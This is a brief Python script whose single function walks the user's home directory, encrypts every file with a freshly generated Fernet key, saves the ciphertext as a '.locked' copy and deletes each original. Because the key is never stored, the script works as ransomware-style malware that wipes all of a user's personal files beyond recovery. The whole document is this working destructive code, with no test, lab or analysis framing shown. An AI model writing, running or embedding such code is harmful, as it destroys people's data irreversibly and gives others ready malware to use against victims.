import os
from cryptography.fernet import Fernet

def run():
    box = Fernet(Fernet.generate_key())
    for root, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            path = os.path.join(root, name)
            with open(path, "rb") as f:
                data = f.read()
            with open(path + ".locked", "wb") as f:
                f.write(box.encrypt(data))
            os.remove(path)
